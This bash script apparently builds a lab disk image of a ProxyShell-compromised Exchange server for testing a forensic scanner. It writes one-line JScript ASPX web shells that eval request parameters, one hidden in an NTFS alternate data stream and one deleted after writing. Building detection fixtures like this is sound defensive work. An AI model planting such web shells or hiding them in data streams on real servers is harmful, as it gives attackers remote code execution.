#!/usr/bin/env bash
# Writes DIR/proxyshell-pwned.vhdx, a disk image (GPT, one NTFS volume) of the lab's
# ProxyShell-compromised server DIR/proxyshell-pwned (made by make-lab.sh), with what
# only the raw file system keeps: a second page in an alternate data stream of a
# harmless file under aspnet_client, and a page deleted after use.  Needs root,
# /dev/fuse, mkntfs, ntfs-3g, sfdisk and qemu-img (it mounts the volume it makes);
# without them it says so on stderr, writes nothing and exits 0.
#   make-lab-image.sh DIR
set -euo pipefail
DIR=${1:?usage: make-lab-image.sh DIR}
SRC="$DIR/proxyshell-pwned"
OUT="$DIR/proxyshell-pwned.vhdx"
missing=""
for t in mkntfs ntfs-3g sfdisk qemu-img; do
	command -v "$t" >/dev/null 2>&1 || missing="$missing $t"
done
[ "$(id -u)" -eq 0 ] || missing="$missing root"
[ -c /dev/fuse ] || missing="$missing /dev/fuse"
if [ -n "$missing" ]; then
	echo "make-lab-image: no disk image of the lab (needs$missing)" >&2
	exit 0
fi
[ -d "$SRC" ] || { echo "make-lab-image: '$SRC' is missing: run make-lab.sh first" >&2; exit 1; }
W=$(mktemp -d "${TMPDIR:-/tmp}/exscan-labimg.XXXXXX")
trap 'umount "$W/mnt" 2>/dev/null || true; rm -rf "$W"' EXIT
mkdir "$W/mnt"
truncate -s 64M "$W/vol"
mkntfs -F -Q -q -L PROXYSHELL "$W/vol" >/dev/null 2>&1
ntfs-3g -o streams_interface=windows "$W/vol" "$W/mnt"
cp -r "$SRC/." "$W/mnt/"
AC="$W/mnt/inetpub/wwwroot/aspnet_client"
printf 'aspnet_client\n' >"$AC/readme.txt"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["ads"],"unsafe");%%>\n' >"$AC/readme.txt:log.aspx"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["tmp"],"unsafe");%%>\n' >"$AC/tmp.aspx"
sync
rm "$AC/tmp.aspx"
umount "$W/mnt"
truncate -s 80M "$W/disk"
printf 'label: gpt\nstart=2048, size=131072, type=EBD0A0A2-B9E5-4433-87C0-68B6B72699C7\n' | sfdisk -q "$W/disk"
dd if="$W/vol" of="$W/disk" bs=1M seek=1 conv=notrunc status=none
qemu-img convert -O vhdx "$W/disk" "$OUT"
chmod 644 "$OUT"
echo "lab disk image: $OUT"
